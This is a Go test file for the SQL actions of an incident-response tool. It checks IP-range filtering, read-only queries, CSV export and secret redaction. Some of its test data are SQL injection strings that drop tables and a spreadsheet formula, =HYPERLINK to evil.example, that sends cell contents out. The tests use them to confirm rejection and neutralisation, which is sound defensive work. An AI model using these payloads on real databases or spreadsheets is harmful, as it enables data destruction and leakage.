package sqlaction_test

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	mrand "math/rand/v2"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/rs/zerolog"

	irctl "irctl.dev/irctl"
	"irctl.dev/irctl/internal/action"
	"irctl.dev/irctl/internal/action/builtin"
	"irctl.dev/irctl/internal/action/sqlaction"
	"irctl.dev/irctl/internal/db"
	"irctl.dev/irctl/internal/evidence"
	"irctl.dev/irctl/internal/runbook"
	"irctl.dev/irctl/internal/sandbox"
	"irctl.dev/irctl/internal/sandbox/sandboxtest"
)

// sqlEnv is an action environment on the shared sandbox's database with
// an evidence store in a fresh incident directory.
type sqlEnv struct {
	*action.Env
	sb   *sandbox.Sandbox
	pool *pgxpool.Pool
	dir  string
}

func newSQLEnv(t testing.TB) *sqlEnv {
	t.Helper()
	sb := sandboxtest.Get(t)
	e := newSQLEnvURL(t, sb.DatabaseURL)
	e.sb = sb
	return e
}

// newSQLEnvURL is newSQLEnv on a database given by URL.
func newSQLEnvURL(t testing.TB, url string) *sqlEnv {
	t.Helper()
	pool, err := db.Open(context.Background(), url, "irctl-test", zerolog.Nop())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(pool.Close)
	dir := t.TempDir()
	store, err := evidence.Open(dir, evidence.Meta{Operator: "test@host", KubeIdentity: "unknown: not used", DBUser: "orchestrator", ToolVersion: "test", RunbookHash: "none"})
	if err != nil {
		t.Fatal(err)
	}
	return &sqlEnv{pool: pool, dir: dir, Env: &action.Env{
		DB:       func(context.Context) (*pgxpool.Pool, error) { return pool, nil },
		DryRun:   action.DryRunNone,
		Log:      zerolog.Nop(),
		Now:      time.Now,
		Incident: "SEC-20261122-043",
		Evidence: func() (*evidence.Store, error) { return store, nil },
	}}
}

// loadRunbook loads the shipped security-incident runbook with --set values.
func loadRunbook(set map[string]string) (*runbook.Runbook, error) {
	data, err := irctl.Runbooks.ReadFile("runbooks/security-incident.yaml")
	if err != nil {
		return nil, err
	}
	return runbook.Load("runbooks/security-incident.yaml", data, runbook.Options{Catalog: builtin.Registry(), Set: set, Incident: "SEC-20261122-043"})
}

func step(t testing.TB, rb *runbook.Runbook, phase, name string) runbook.Step {
	t.Helper()
	for _, s := range rb.Phases[phase] {
		if s.Name == name {
			return s
		}
	}
	t.Fatalf("runbook has no step %s in phase %s", name, phase)
	return runbook.Step{}
}

// runStep plans and applies a runbook step as the engine does.
func runStep(ctx context.Context, env *action.Env, s runbook.Step) (*action.Plan, *action.Result, error) {
	a, _ := builtin.Registry().Get(s.Action)
	plan, err := a.Plan(ctx, env, s.Params)
	if err != nil || plan.Noop {
		return plan, nil, err
	}
	res, err := a.Apply(ctx, env, s.Params, plan)
	return plan, res, err
}

func column(tb *action.Table, name string) int {
	return slices.Index(tb.Columns, name)
}

// randomAddr draws an IPv4, IPv6 or IPv4-mapped IPv6 address, half the
// time inside one of near (so both outcomes of a filter are exercised).
func randomAddr(r *mrand.Rand, near []netip.Prefix) netip.Addr {
	var b [16]byte
	for i := range b {
		b[i] = byte(r.UintN(256))
	}
	var a netip.Addr
	switch r.IntN(3) {
	case 0:
		a = netip.AddrFrom4([4]byte(b[:4]))
	case 1:
		a = netip.AddrFrom16(b)
	default:
		a = netip.AddrFrom16(netip.AddrFrom4([4]byte(b[:4])).As16()) // ::ffff:a.b.c.d
	}
	if len(near) > 0 && r.IntN(2) == 0 {
		p := near[r.IntN(len(near))]
		base := p.Addr().AsSlice()
		rnd := a.AsSlice()
		if len(rnd) != len(base) {
			rnd = b[:len(base)]
		}
		for i := range base { // keep the prefix's bits, take the rest at random
			bits := min(max(p.Bits()-8*i, 0), 8)
			mask := byte(0xff << (8 - bits))
			base[i] = base[i]&mask | rnd[i]&^mask
		}
		a, _ = netip.AddrFromSlice(base)
		if r.IntN(4) == 0 && a.Is4() {
			a = netip.AddrFrom16(a.As16()) // the same address, IPv4-mapped
		} else if r.IntN(4) == 0 && a.Is4In6() {
			a = a.Unmap()
		}
	}
	return a
}

func randomPrefix(r *mrand.Rand) netip.Prefix {
	a := randomAddr(r, nil)
	bits := r.IntN(a.BitLen() + 1)
	if a.Is4In6() {
		bits = 96 + r.IntN(33)
	}
	return netip.PrefixFrom(a, bits).Masked()
}

func internal(ranges []netip.Prefix, a netip.Addr) bool {
	for _, p := range ranges {
		if p.Contains(a) {
			return true
		}
	}
	return false
}

// TestInternalRangesFilterAgreesWithNetip is the property test of promise
// 12: the runbook's suspicious-activity step, run by PostgreSQL, calls an
// address suspicious exactly when no internal range contains it by
// netip.Prefix.Contains — over random IPv4, IPv6 and IPv4-mapped addresses
// and random prefix lists, the shipped defaults included.
func TestInternalRangesFilterAgreesWithNetip(t *testing.T) {
	e := newSQLEnv(t)
	sandboxtest.ResetDB(t, e.sb)
	ctx := context.Background()
	r := mrand.New(mrand.NewPCG(12, 12))
	for round := range 8 {
		set := map[string]string{}
		if round > 0 {
			var ps []string
			for range r.IntN(6) { // round > 0 may give an empty list: nothing is internal
				ps = append(ps, randomPrefix(r).String())
			}
			set["internal_ranges"] = strings.Join(ps, ",")
		}
		rb, err := loadRunbook(set)
		if err != nil {
			t.Fatalf("round %d: %v", round, err)
		}
		ranges := rb.Values["internal_ranges"].([]netip.Prefix)
		addrs := make([]netip.Addr, 400)
		marks := make([]string, len(addrs))
		for i := range addrs {
			addrs[i] = randomAddr(r, ranges)
			marks[i] = fmt.Sprintf("prop-%d-%d", round, i)
		}
		if _, err := e.pool.Exec(ctx, `INSERT INTO audit_events (timestamp, event_type, resource_id, ip_address)
			SELECT now() - interval '1 minute', 'api_call', m, a FROM unnest($1::text[], $2::inet[]) AS u(m, a)`, marks, addrs); err != nil {
			t.Fatal(err)
		}
		s := step(t, rb, "assess", "suspicious-activity")
		s.Params = s.Params.With("keep_rows", int64(1<<30))
		_, res, err := runStep(ctx, e.Env, s)
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]bool{}
		rc := column(res.Table, "resource_id")
		for _, row := range res.Table.Rows {
			if strings.HasPrefix(row[rc], fmt.Sprintf("prop-%d-", round)) {
				got[row[rc]] = true
			}
		}
		for i, a := range addrs {
			if want := !internal(ranges, a); got[marks[i]] != want {
				t.Errorf("round %d: %s with internal_ranges %v: PostgreSQL says suspicious=%v, netip says %v", round, a, ranges, got[marks[i]], want)
			}
		}
	}
}

// TestDefaultRangesTreatMappedAddressesLikeIPv4 checks the normalisation
// the shipped default achieves by listing the mapped ranges: an IPv4
// address and its IPv4-mapped IPv6 form are internal alike.
func TestDefaultRangesTreatMappedAddressesLikeIPv4(t *testing.T) {
	rb, err := loadRunbook(nil)
	if err != nil {
		t.Fatal(err)
	}
	ranges := rb.Values["internal_ranges"].([]netip.Prefix)
	r := mrand.New(mrand.NewPCG(1, 2))
	for range 100000 {
		a := randomAddr(r, ranges).Unmap()
		if !a.Is4() {
			continue
		}
		if internal(ranges, a) != internal(ranges, netip.AddrFrom16(a.As16())) {
			t.Fatalf("%s and ::ffff:%s are classified differently by the default internal_ranges", a, a)
		}
	}
	for _, s := range []string{"10.1.2.3", "::ffff:10.1.2.3", "172.31.0.1", "::ffff:172.16.9.9", "192.168.7.7", "::ffff:192.168.0.1", "fd00::1"} {
		if !internal(ranges, netip.MustParseAddr(s)) {
			t.Errorf("%s should be internal", s)
		}
	}
	for _, s := range []string{"203.0.113.7", "::ffff:203.0.113.7", "2001:db8::1", "172.32.0.1", "::ffff:11.0.0.1"} {
		if internal(ranges, netip.MustParseAddr(s)) {
			t.Errorf("%s should not be internal", s)
		}
	}
}

// canary creates a table that injected SQL would drop.
func canary(t testing.TB, pool *pgxpool.Pool) string {
	t.Helper()
	b := make([]byte, 4)
	rand.Read(b)
	name := "canary_" + hex.EncodeToString(b)
	if _, err := pool.Exec(context.Background(), "CREATE TABLE "+name+" (x int); INSERT INTO "+name+" VALUES (1)"); err != nil {
		t.Fatal(err)
	}
	return name
}

func canaryAlive(t testing.TB, pool *pgxpool.Pool, name string) {
	t.Helper()
	var n int
	if err := pool.QueryRow(context.Background(), "SELECT count(*) FROM "+name).Scan(&n); err != nil || n != 1 {
		t.Fatalf("canary table %s: %d rows, %v: injected SQL ran", name, n, err)
	}
}

// assessWith loads the runbook with suspicious_ips and internal_ranges
// given as --set strings and runs the two IP-filtered queries. A value
// that is not an address list must be rejected at load (a usage error,
// exit 2); one that loads is bound, never spliced.
func assessWith(t testing.TB, e *sqlEnv, ips, ranges string) (rejected bool) {
	t.Helper()
	set := map[string]string{"suspicious_ips": ips, "internal_ranges": ranges}
	rb, err := loadRunbook(set)
	if err != nil {
		var ps runbook.Problems
		if !errors.As(err, &ps) {
			t.Fatalf("load failed with a non-usage error: %v", err)
		}
		return true
	}
	for _, name := range []string{"compromised-accounts", "suspicious-activity"} {
		if _, _, err := runStep(context.Background(), e.Env, step(t, rb, "assess", name)); err != nil {
			t.Fatalf("%s with suspicious_ips=%q internal_ranges=%q: %v", name, ips, ranges, err)
		}
	}
	return false
}

// Environment a fuzzing coordinator passes to its workers.
const (
	envFuzzDB     = "IRCTL_FUZZ_DATABASE_URL"
	envFuzzCanary = "IRCTL_FUZZ_CANARY"
)

var injections = []string{
	"1.2.3.4'); DROP TABLE %s; --",
	"1.2.3.4, 5.6.7.8'; DROP TABLE %s;--",
	"' OR 1=1; DROP TABLE %s; --",
	"10.0.0.1/8",
	"999.1.1.1",
	"::ffff:1.2.3.4/96'; DROP TABLE %s",
	"fe80::1%%eth0'; DROP TABLE %s; --",
	"1.2.3.4\x00; DROP TABLE %s",
	"$1; DROP TABLE %s",
}

func TestInjectedParamsAreRejectedOrBound(t *testing.T) {
	e := newSQLEnv(t)
	name := canary(t, e.pool)
	for _, inj := range injections {
		s := inj
		if strings.Contains(inj, "%s") {
			s = fmt.Sprintf(inj, name)
		}
		rejectedIPs := assessWith(t, e, s, "10.0.0.0/8")
		rejectedRanges := assessWith(t, e, "1.2.3.4", s)
		if strings.Contains(s, "DROP") && (!rejectedIPs || !rejectedRanges) {
			t.Errorf("%q was accepted as an address list", s)
		}
		canaryAlive(t, e.pool, name)
	}
	// Valid lists, mapped and IPv6 forms included, are bound and run.
	if assessWith(t, e, "198.51.100.23,::ffff:203.0.113.77,2001:db8:bad:1::21", "10.0.0.0/8,::ffff:10.0.0.0/104") {
		t.Fatal("valid address lists rejected")
	}
	canaryAlive(t, e.pool, name)
}

// FuzzSuspiciousIPs feeds arbitrary --set values for suspicious_ips and
// internal_ranges through the runbook loader and, when they load, through
// the assess queries against the sandbox's PostgreSQL: every value is
// rejected or bound, and the canary table survives. `go test` runs the
// seed corpus; fuzz with
//
//	go test ./internal/action/sqlaction -run '^$' -fuzz FuzzSuspiciousIPs -fuzzminimizetime 1s
//
// (-fuzzminimizetime keeps the large, instrumented binary from spending a
// minute minimising each new input).
func FuzzSuspiciousIPs(f *testing.F) {
	// The fuzzing coordinator starts the sandbox and passes its database
	// and canary to the worker processes it spawns (they inherit its
	// environment), so that workers neither start sandboxes of their own
	// nor leave them behind when the coordinator stops them.
	var e *sqlEnv
	name := os.Getenv(envFuzzCanary)
	if url := os.Getenv(envFuzzDB); url != "" && name != "" {
		e = newSQLEnvURL(f, url)
	} else {
		e = newSQLEnv(f)
		name = canary(f, e.pool)
		os.Setenv(envFuzzDB, e.sb.DatabaseURL)
		os.Setenv(envFuzzCanary, name)
		f.Cleanup(func() { os.Unsetenv(envFuzzDB); os.Unsetenv(envFuzzCanary) })
	}
	for _, inj := range injections {
		s := inj
		if strings.Contains(inj, "%s") {
			s = fmt.Sprintf(inj, name)
		}
		f.Add(s, "10.0.0.0/8")
		f.Add("1.2.3.4", s)
	}
	f.Add("198.51.100.23,203.0.113.77,2001:db8:bad:1::21", "")
	f.Add("::ffff:198.51.100.23", "::ffff:10.0.0.0/104,fc00::/7")
	f.Add("", "0.0.0.0/0,::/0")
	f.Fuzz(func(t *testing.T, ips, ranges string) {
		assessWith(t, e, ips, ranges)
		canaryAlive(t, e.pool, name)
	})
}

func TestCompromisedAccountsMatchMappedForms(t *testing.T) {
	e := newSQLEnv(t)
	sandboxtest.ResetDB(t, e.sb)
	// The seed's logins come from 198.51.100.23 (user 7) and 203.0.113.77 (13);
	// given in IPv4-mapped form, they must still match.
	rb, err := loadRunbook(map[string]string{"suspicious_ips": "::ffff:198.51.100.23,203.0.113.77,2001:db8:bad:1::21"})
	if err != nil {
		t.Fatal(err)
	}
	_, res, err := runStep(context.Background(), e.Env, step(t, rb, "assess", "compromised-accounts"))
	if err != nil {
		t.Fatal(err)
	}
	var users []string
	for _, row := range res.Table.Rows {
		users = append(users, row[column(res.Table, "user_id")])
	}
	if strings.Join(users, ",") != "7,13,21" {
		t.Fatalf("compromised users %v, want 7,13,21", users)
	}
	// Without suspicious_ips the step is skipped (its only_if), saying why.
	rb, _ = loadRunbook(nil)
	if st := step(t, rb, "assess", "compromised-accounts"); !strings.Contains(st.SkipSummary(), "skipped: no suspicious_ips") {
		t.Fatalf("empty suspicious_ips: the step is not skipped: %q", st.Skip)
	}
}

func TestQueryIsReadOnlyAndKeepsTypedRows(t *testing.T) {
	e := newSQLEnv(t)
	name := canary(t, e.pool)
	q := sqlaction.Query{}
	_, _, err := runStep(context.Background(), e.Env, runbook.Step{Action: "sql.query", Params: sqlaction.Query{}.Spec().MustBind(map[string]any{"sql": "WITH d AS (DELETE FROM " + name + " RETURNING x) SELECT * FROM d"})})
	if err == nil || !strings.Contains(err.Error(), "read-only transaction") {
		t.Fatalf("a write in sql.query: %v", err)
	}
	canaryAlive(t, e.pool, name)

	p := sqlaction.Query{}.Spec().MustBind(map[string]any{"sql": "SELECT 7::bigint AS n, 'a\"b'::text AS s, true AS ok, '{\"bytes\": 5}'::jsonb AS d, '::ffff:10.1.2.3'::inet AS ip, NULL::int AS nothing, '2026-01-02 03:04:05+00'::timestamptz AS ts, $1::interval AS window",
		"args": []any{time.Duration(90 * time.Minute)}, "summary": "typed row"})
	dry := *e.Env
	dry.DryRun = action.DryRunServer
	plan, err := q.Plan(context.Background(), &dry, p)
	if err != nil {
		t.Fatal(err)
	}
	res, err := q.Apply(context.Background(), &dry, p, plan)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(res.Summary, "1 row(s)") || !strings.Contains(res.Summary, "collected under --dry-run=server too") {
		t.Errorf("summary: %s", res.Summary)
	}
	b, _ := os.ReadFile(filepath.Join(evidence.Dir(e.dir), "sql", "typed_row.jsonl"))
	want := `{"n":7,"s":"a\"b","ok":true,"d":{"bytes": 5},"ip":"::ffff:10.1.2.3","nothing":null,"ts":"2026-01-02 03:04:05+00","window":"01:30:00"}` + "\n"
	if string(b) != want {
		t.Errorf("jsonl:\n%s\nwant\n%s", b, want)
	}
	if r, _ := evidence.Verify(e.dir, nil); !r.OK() {
		t.Fatal(r.Problems)
	}
	entries, _ := evidence.ReadManifest(e.dir)
	src := entries[0].Source
	if src.Kind != evidence.KindSQL || src.SQL != p.String("sql") || *src.Rows != 1 || fmt.Sprint(src.Params) != "[1h30m0s]" || !strings.Contains(src.Server, "orchestrator@") {
		t.Errorf("manifest source: %+v", src)
	}
}

func TestExportCountsInTheSameSnapshotAndNeutralises(t *testing.T) {
	e := newSQLEnv(t)
	sandboxtest.ResetDB(t, e.sb)
	defer sandboxtest.ResetDB(t, e.sb)
	ctx := context.Background()
	nasty := map[string]string{
		"csv-eq": `=HYPERLINK("http://evil.example/?"&A1,"click")`, "csv-plus": "+1+1", "csv-minus": "-2+3", "csv-at": "@SUM(1+1)",
		"csv-tab": "\t=1", "csv-cr": "\r=1", "csv-multiline": "line one\n=not a cell start, \"quoted\"", "csv-plain": "curl/8.5.0",
	}
	for mark, ua := range nasty {
		if _, err := e.pool.Exec(ctx, `INSERT INTO audit_events (timestamp, event_type, resource_id, ip_address, user_agent, details)
			VALUES (now() - interval '1 hour', 'api_call', $1, '203.0.113.9', $2, '{"bytes": -5}')`, mark, ua); err != nil {
			t.Fatal(err)
		}
	}
	// Enough rows that the export takes a while, and a writer inserting
	// throughout it: count(*) and COPY must still agree.
	if _, err := e.pool.Exec(ctx, `INSERT INTO audit_events (timestamp, event_type, ip_address)
		SELECT now() - (g % 500000) * interval '1 second', 'bulk', '10.9.9.9' FROM generate_series(1, 150000) g`); err != nil {
		t.Fatal(err)
	}
	stop := make(chan struct{})
	var inserted atomic.Int64
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			if _, err := e.pool.Exec(ctx, `INSERT INTO audit_events (timestamp, event_type) SELECT now(), 'concurrent' FROM generate_series(1, 50)`); err == nil {
				inserted.Add(50)
			}
		}
	}()
	time.Sleep(50 * time.Millisecond)
	p := sqlaction.Export{}.Spec().MustBind(map[string]any{"table": "audit_events", "since": 7 * 24 * time.Hour, "time_column": "timestamp"})
	_, res, err := runStep(ctx, e.Env, runbook.Step{Action: "sql.export", Params: p})
	close(stop)
	wg.Wait()
	if err != nil {
		t.Fatal(err)
	}
	if inserted.Load() == 0 {
		t.Log("the concurrent writer inserted nothing during the export")
	}
	entries, _ := evidence.ReadManifest(e.dir)
	if len(entries) != 1 {
		t.Fatalf("entries: %+v", entries)
	}
	en := entries[0]
	data, err := os.ReadFile(filepath.Join(evidence.Dir(e.dir), filepath.FromSlash(en.Name)))
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if int64(len(records)-1) != *en.Source.Rows || !strings.Contains(res.Summary, fmt.Sprintf("exported %d row(s)", *en.Source.Rows)) {
		t.Fatalf("%d CSV rows, manifest says %d; %s", len(records)-1, *en.Source.Rows, res.Summary)
	}
	if !strings.HasPrefix(en.Source.SQL, "COPY (SELECT * FROM \"audit_events\"") || !strings.Contains(en.Source.Note, "cell(s) beginning with") {
		t.Errorf("source: %+v", en.Source)
	}
	h := records[0]
	rc, uc, dc := slices.Index(h, "resource_id"), slices.Index(h, "user_agent"), slices.Index(h, "details")
	seen := 0
	for _, rec := range records[1:] {
		ua, ok := nasty[rec[rc]]
		if !ok {
			continue
		}
		seen++
		want := sqlaction.NeutraliseCell(ua)
		if rec[uc] != want {
			t.Errorf("%s: user_agent %q, want %q", rec[rc], rec[uc], want)
		}
		var d map[string]any
		if err := json.Unmarshal([]byte(rec[dc]), &d); err != nil {
			t.Errorf("%s: details %q is not JSON any more", rec[rc], rec[dc])
		}
	}
	if seen != len(nasty) {
		t.Fatalf("found %d of the %d planted rows", seen, len(nasty))
	}
	if r, _ := evidence.Verify(e.dir, nil); !r.OK() {
		t.Fatal(r.Problems)
	}
}

func TestExportRejectsBadTablesAndColumns(t *testing.T) {
	e := newSQLEnv(t)
	spec := sqlaction.Export{}.Spec()
	if err := spec.Validate(sqlaction.Export{}.Spec().MustBind(map[string]any{"table": "audit_events; DROP TABLE users", "since": time.Hour})); err == nil {
		t.Error("an injected table name passed validation")
	}
	for _, c := range []struct {
		p    runbook.Params
		want string
	}{
		{sqlaction.Export{}.Spec().MustBind(map[string]any{"table": "no_such_table", "since": time.Hour}), "table no_such_table not found"},
		{sqlaction.Export{}.Spec().MustBind(map[string]any{"table": "audit_events", "since": time.Hour, "time_column": "user_id"}), "is a int8, not a timestamp"},
		{sqlaction.Export{}.Spec().MustBind(map[string]any{"table": "audit_events", "since": time.Hour, "columns": []string{"id", "password"}}), `has no column "password"`},
	} {
		if _, err := (sqlaction.Export{}).Plan(context.Background(), e.Env, c.p); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%v: %v, want %q", c.p, err, c.want)
		}
	}
}

// TestExportPlanCountMatches checks the count a rehearsal's plan shows (a
// server dry run counts exactly) against what the export then writes, and
// that a real run's plan says its figure is the planner's estimate.
func TestExportPlanCountMatches(t *testing.T) {
	e := newSQLEnv(t)
	sandboxtest.ResetDB(t, e.sb)
	ctx := context.Background()
	p := sqlaction.Export{}.Spec().MustBind(map[string]any{"table": "audit_events", "since": 24 * time.Hour, "columns": []string{"id", "timestamp", "ip_address"}, "name": "last-day"})
	e.DryRun = action.DryRunServer
	dry, err := (sqlaction.Export{}).Plan(ctx, e.Env, p)
	if err != nil {
		t.Fatal(err)
	}
	e.DryRun = action.DryRunNone
	plan, res, err := runStep(ctx, e.Env, runbook.Step{Action: "sql.export", Params: p})
	if err != nil {
		t.Fatal(err)
	}
	var n int
	e.pool.QueryRow(ctx, "SELECT count(*) FROM audit_events WHERE timestamp > now() - interval '24 hours'").Scan(&n)
	if dry.Count != n || !strings.Contains(dry.Summary, fmt.Sprintf("export %d row(s)", n)) || !strings.Contains(res.Summary, fmt.Sprintf("exported %d row(s)", n)) {
		t.Fatalf("dry-run plan %d (%s), db %d, result %s", dry.Count, dry.Summary, n, res.Summary)
	}
	if !strings.Contains(plan.Summary, "planner's estimate") {
		t.Errorf("a real run's plan should say its count is an estimate: %s", plan.Summary)
	}
	if strings.Contains(res.Summary, "changed in between") {
		t.Errorf("an estimate that differs from the count is no change in between: %s", res.Summary)
	}
}

// A runbook's secret param bound into a query is redacted in the evidence
// manifest: the manifest records the statement and its params for whoever
// reads the bundle later, and must not hand them the secret.
func TestQueryEvidenceRedactsRunbookSecrets(t *testing.T) {
	const secret = "s3cr3t-canary-7f1c9e"
	e := newSQLEnv(t)
	src := []byte(`apiVersion: irctl/v1
kind: Runbook
name: secret-query
params:
  token:
    secret: true
    description: a credential the query compares against
phases:
  assess:
    - name: check-token
      action: sql.query
      with:
        summary: token check
        name: token-check
        sql: SELECT $1::text = 'nope' AS matches
        args: ["{{ .token }}"]
`)
	rb, err := runbook.Load("secret-query.yaml", src, runbook.Options{Catalog: builtin.Registry(), Set: map[string]string{"token": secret}, Incident: "SEC-20261122-043"})
	if err != nil {
		t.Fatal(err)
	}
	e.Secrets = rb.Secrets
	if _, _, err := runStep(context.Background(), e.Env, step(t, rb, "assess", "check-token")); err != nil {
		t.Fatal(err)
	}
	err = filepath.WalkDir(e.dir, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if bytes.Contains(data, []byte(secret)) {
			t.Errorf("%s holds the secret param's value", path)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	store, err := e.Evidence()
	if err != nil {
		t.Fatal(err)
	}
	manifest, err := os.ReadFile(filepath.Join(store.Dir(), evidence.ManifestName))
	if err != nil || !bytes.Contains(manifest, []byte("[redacted]")) {
		t.Errorf("manifest does not record the redacted param (%v):\n%s", err, manifest)
	}
}
